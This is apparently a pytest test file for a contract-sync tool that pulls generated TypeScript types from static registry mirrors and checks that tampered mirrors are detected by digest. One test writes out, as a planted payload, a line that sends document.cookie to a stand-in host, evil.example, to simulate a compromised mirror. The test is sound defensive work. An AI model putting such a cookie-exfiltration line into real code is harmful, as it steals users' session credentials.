"""A static mirror (``registry export --static DIR``) serves ``pull`` the way a CDN or an object
store would: over plain HTTP (a real web server in a child process) and as ``file://``. It holds
each version's types for the default generator options only, and records in the version's
index.json which generator version and options made them: a pull with the same generator and
options uses them (verified against the recorded digest), any other generates them locally from
the mirror's immutable openapi.json, checked against its digest (#9)."""

from __future__ import annotations

import contextlib
import json
import sys
from collections.abc import Iterator
from pathlib import Path

import orjson
import pytest

from contractsync import __version__
from contractsync.client.cache import digest_of
from contractsync.registry.body import parse_publish_body
from contractsync.registry.export import export_static
from contractsync.registry.service import Registry
from contractsync.registry.settings import RegistrySettings
from contractsync.registry.store import open_store
from contractsync.spec.canonical import canonical_json
from contractsync.typescript import TypeScriptOptions, to_typescript
from contractsync.typescript.options import options_digest

from ._helpers import child_server, cli, free_port


@pytest.fixture(scope="module")
def mirror(tmp_path_factory: pytest.TempPathFactory, v1_spec: Path) -> Path:
    tmp = tmp_path_factory.mktemp("mirror")
    store = open_store(data_dir=tmp / "data")
    try:
        registry = Registry(store, RegistrySettings())
        registry.publish("bookshop", "main", parse_publish_body(
            orjson.dumps({"openapi": json.loads(v1_spec.read_text(encoding="utf-8"))})), author="test")
        export_static(registry, tmp / "mirror")
    finally:
        store.close()
    return tmp / "mirror"


@contextlib.contextmanager
def web_server(directory: Path) -> Iterator[str]:
    """Python's plain static file server (no registry logic at all) on a free loopback port."""
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    with child_server([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
                       "--directory", str(directory)], url + "/v1/contracts/index.json"):
        yield url


def _frontend(tmp_path: Path, registry: str, options: str, generate: str = "registry") -> Path:
    web = tmp_path / "web"
    web.mkdir(exist_ok=True)
    (web / "contractsync.toml").write_text(
        f'[pull]\nregistry = "{registry}"\ncontract = "bookshop"\ntypes = "types.ts"\ngenerate = "{generate}"\n'
        f'{options}', encoding="utf-8")
    return web


OPTIONS = {"default": ("", TypeScriptOptions()),
           "enum": ("[pull.typescript]\nenum = true\nexport_type = true\n",
                    TypeScriptOptions(enum=True, export_type=True))}


@pytest.mark.parametrize("served", ["http", "file"])
@pytest.mark.parametrize("options", sorted(OPTIONS))
def test_pull_from_a_static_mirror_generates_the_configured_types(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], mirror: Path,
        v1_spec: Path, served: str, options: str) -> None:
    table, opts = OPTIONS[options]
    expected = to_typescript(json.loads(v1_spec.read_text(encoding="utf-8")), opts)
    with web_server(mirror) if served == "http" else contextlib.nullcontext(mirror.as_uri()) as url:
        web = _frontend(tmp_path, url, table)
        run = cli(monkeypatch, capsys, web, "pull", env={"CONTRACTSYNC_CACHE_DIR": str(tmp_path / "cache"),
                                                          "CONTRACTSYNC_TOKEN": None})
    assert run.code == 0, run.err
    assert (web / "types.ts").read_text(encoding="utf-8") == expected
    lock = json.loads((web / "contractsync.lock").read_text(encoding="utf-8"))
    assert lock["generator"]["options_digest"] == options_digest(opts)
    assert lock["contract"]["version"] == 1
    assert lock["outputs"]["types.ts"] == digest_of(expected.encode("utf-8"))
    # The mirror's types are the default options' only: used for those, generated for any other.
    assert ("types downloaded from the registry" if options == "default" else "types generated locally") in run.err


def test_the_mirror_records_what_made_its_types(mirror: Path) -> None:
    for record in mirror.glob("v1/contracts/bookshop/versions/*/index.json"):
        made = json.loads(record.read_bytes())["artifacts"]["types.ts"]
        types = (record.parent / "types.ts").read_bytes()
        assert made == {"generator": "contractsync", "generator_version": __version__,
                        "options_digest": options_digest(TypeScriptOptions()), "digest": digest_of(types)}


@pytest.mark.parametrize("change", ["generator", "types"])
def test_mirror_types_from_another_generator_or_altered_are_not_used(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], mirror: Path,
        v1_spec: Path, change: str) -> None:
    import shutil

    copy = tmp_path / "mirror"
    shutil.copytree(mirror, copy)
    for record in copy.glob("v1/contracts/bookshop/versions/*/index.json"):
        if change == "generator":
            data = json.loads(record.read_bytes())
            data["artifacts"]["types.ts"]["generator_version"] = "0.0.1"
            record.write_bytes(orjson.dumps(data))
        else:
            (record.parent / "types.ts").write_text("export type Evil = 1;\n", encoding="utf-8")
    web = _frontend(tmp_path, copy.as_uri(), "")
    run = cli(monkeypatch, capsys, web, "pull", env={"CONTRACTSYNC_CACHE_DIR": str(tmp_path / "cache"),
                                                      "CONTRACTSYNC_TOKEN": None})
    if change == "generator":
        assert run.code == 0, run.err
        assert "types generated locally" in run.err
        assert (web / "types.ts").read_text(encoding="utf-8") == to_typescript(
            json.loads(v1_spec.read_text(encoding="utf-8")), TypeScriptOptions())
    else:
        assert run.code == 2 and "do not match their digest in the mirror's index.json" in run.err
        assert len(run.err.strip().splitlines()) == 1 and not (web / "types.ts").exists()


def test_a_tampered_mirror_contract_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                capsys: pytest.CaptureFixture[str], mirror: Path) -> None:
    import shutil

    copy = tmp_path / "mirror"
    shutil.copytree(mirror, copy)
    for path in copy.rglob("openapi.json"):
        data = json.loads(path.read_bytes())
        data["info"]["title"] = "Evil"
        path.write_bytes(canonical_json(data))
    with web_server(copy) as url:
        web = _frontend(tmp_path, url, OPTIONS["enum"][0])
        run = cli(monkeypatch, capsys, web, "pull", env={"CONTRACTSYNC_CACHE_DIR": str(tmp_path / "cache"),
                                                          "CONTRACTSYNC_TOKEN": None})
    assert run.code == 2
    assert "does not match its digest" in run.err and len(run.err.strip().splitlines()) == 1
    assert not (web / "types.ts").exists() and not (web / "contractsync.lock").exists()


@pytest.mark.parametrize("generate", ["local", "verify", "registry"])
def test_a_mirror_serving_consistent_but_other_types(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], mirror: Path,
        v1_spec: Path, generate: str) -> None:
    """A compromised mirror whose types.ts and index.json digest agree (nothing an ETag can show):
    ``local`` never reads them, ``verify`` refuses naming the contract and version, ``registry``
    trusts the mirror — that is what it means, and why it is not the default."""
    import shutil

    copy = tmp_path / "mirror"
    shutil.copytree(mirror, copy)
    evil = b"export const stolen = fetch('https://evil.example/' + document.cookie);\n"
    for record in copy.glob("v1/contracts/bookshop/versions/*/index.json"):
        (record.parent / "types.ts").write_bytes(evil)
        data = json.loads(record.read_bytes())
        data["artifacts"]["types.ts"]["digest"] = digest_of(evil)
        record.write_bytes(orjson.dumps(data))
    with web_server(copy) as url:
        web = _frontend(tmp_path, url, "", generate)
        run = cli(monkeypatch, capsys, web, "pull", env={"CONTRACTSYNC_CACHE_DIR": str(tmp_path / "cache"),
                                                          "CONTRACTSYNC_TOKEN": None})
    local = to_typescript(json.loads(v1_spec.read_text(encoding="utf-8")), TypeScriptOptions())
    if generate == "verify":
        assert run.code == 2, run.err
        assert len(run.err.strip().splitlines()) == 1
        assert "the types served for bookshop version 1 (sha256:" in run.err and digest_of(evil) in run.err
        assert not (web / "types.ts").exists() and not (web / "contractsync.lock").exists()
        return
    assert run.code == 0, run.err
    lock = json.loads((web / "contractsync.lock").read_text(encoding="utf-8"))
    assert lock["generator"]["generate"] == generate
    written = (web / "types.ts").read_bytes()
    assert written == (local.encode("utf-8") if generate == "local" else evil)
